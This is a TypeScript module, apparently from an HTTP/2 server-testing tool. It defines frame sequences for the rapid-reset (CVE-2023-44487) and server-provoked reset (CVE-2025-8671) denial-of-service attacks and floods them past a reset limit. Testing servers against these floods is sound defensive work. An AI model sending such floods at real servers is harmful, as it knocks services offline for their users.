import { literalBlock, type RawField, requestFields } from '../raw-http2/field-block.ts';
import {
  dataFrame,
  errorCode,
  frame,
  frameType,
  headersFrame,
  priorityFrame,
  rstStreamFrame,
  windowUpdateFrame,
} from '../raw-http2/frame.ts';
import { type Attack, attackedPaths } from './attack.ts';
import { flood } from './flood.ts';

/** Resets of streams, by either side, that a connection may see in 10 s. */
const limit = 200;
const request = literalBlock(requestFields(attackedPaths.hanging));

/** CVE-2023-44487, and CVE-2025-8671: frames that make the server itself reset a stream whose request is already on its way. */
export const resetAttacks: readonly Attack[] = [
  provoked('rapid reset', (id) => [headersFrame(id, request, true), rstStreamFrame(id, errorCode.cancel)]),
  provoked('rapid reset of uploads', (id) => [
    headersFrame(id, literalBlock(requestFields(attackedPaths.upload, 'POST')), false),
    dataFrame(id, 'x', false),
    rstStreamFrame(id, errorCode.cancel),
  ]),
  provoked('made reset: window increment 0', (id) => [headersFrame(id, request, true), windowUpdateFrame(id, 0)]),
  provoked('made reset: window overflow', (id) => [
    headersFrame(id, request, true),
    windowUpdateFrame(id, 0x7f_ff_ff_ff),
  ]),
  provoked('made reset: DATA after the end', (id) => [headersFrame(id, request, true), dataFrame(id, 'x', false)]),
  provoked('made reset: HEADERS after the end', (id) => [
    headersFrame(id, request, true),
    headersFrame(id, literalBlock([['x', 'y']]), true),
  ]),
  provoked('made reset: PRIORITY of 4 octets', (id) => [
    headersFrame(id, request, true),
    frame(frameType.priority, 0, id, Buffer.alloc(4)),
  ]),
  provoked('made reset: PRIORITY on itself', (id) => [headersFrame(id, request, true), priorityFrame(id, id)]),
  provoked('made reset: more DATA than Content-Length', (id) => [
    headersFrame(id, uploadOf([['content-length', '1']]), false),
    dataFrame(id, 'xy', false),
  ]),
  provoked('made reset: less DATA than Content-Length', (id) => [
    headersFrame(id, uploadOf([['content-length', '9']]), false),
    dataFrame(id, 'xy', true),
  ]),
  provoked('made reset: pseudo field in trailers', (id) => [
    headersFrame(id, uploadOf([]), false),
    headersFrame(id, literalBlock([[':status', '200']]), true),
  ]),
  provoked('made reset: malformed requests', (id) => [
    headersFrame(id, literalBlock(requestFields(attackedPaths.quick, 'GET', [['Upper', 'case']])), true),
  ]),
];

function provoked(name: string, frames: (streamId: number) => readonly Buffer[]): Attack {
  return flood({ name, limit, unit: (connection) => Buffer.concat(frames(connection.nextStreamId())) });
}

function uploadOf(more: readonly RawField[]): Buffer {
  return literalBlock(requestFields(attackedPaths.upload, 'POST', more));
}
